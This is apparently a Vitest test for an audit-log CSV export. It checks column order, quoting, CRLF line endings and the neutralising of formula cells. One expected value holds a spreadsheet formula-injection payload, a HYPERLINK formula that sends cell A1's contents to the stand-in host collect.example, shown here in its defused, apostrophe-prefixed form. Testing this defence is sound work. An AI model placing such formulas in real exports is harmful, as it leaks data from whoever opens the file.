import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { auditEntries } from '#fixtures/build/samples.ts';
import type { AuditEntry } from '#src/api/types/auditEntry.ts';
import { auditList } from '#src/features/audit-log/auditList.ts';
import { exportRows } from '#src/features/shared/list/export/exportRows.ts';

const header =
  'Timestamp,User,Action,Details,Category,Result,Error Message,Resource ID,IP Address,User Agent,Portal,Session ID';

/** A CSV read by another library, split into header and rows. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = parse(text, { bom: true, record_delimiter: '\r\n' });
  expect(rows[0]?.join(',')).toBe(header);
  return rows.slice(1);
}

const expectedCells = (entry: AuditEntry) => [
  entry.timestamp,
  entry.user,
  entry.action,
  entry.details,
  entry.category,
  entry.result,
  entry.errorMessage ?? '',
  entry.resource?.id ?? '',
  entry.ipAddress,
  // Inert in a spreadsheet.
  entry.userAgent.startsWith('=') ? `'${entry.userAgent}` : entry.userAgent,
  entry.portal,
  entry.sessionId,
];

describe('Export Logs', () => {
  it('is the CSV of section 7: its columns in order, ISO 8601, quoted, neutralised, lines that end in CRLF', async () => {
    const file = await exportRows(
      { name: 'audit-logs', format: 'csv', columns: auditList.file?.columns ?? [], rows: auditEntries },
      { signal: new AbortController().signal, onProgress: () => {}, pause: async () => {} },
    );
    const text = await file.text();
    expect(text.startsWith(`${header}\r\n`)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text).toContain('"\'=HYPERLINK(""http://collect.example/?q=""&A1,""Mozilla"")"');
    expect(cellsOf(text)).toEqual(auditEntries.map(expectedCells));
  });
});
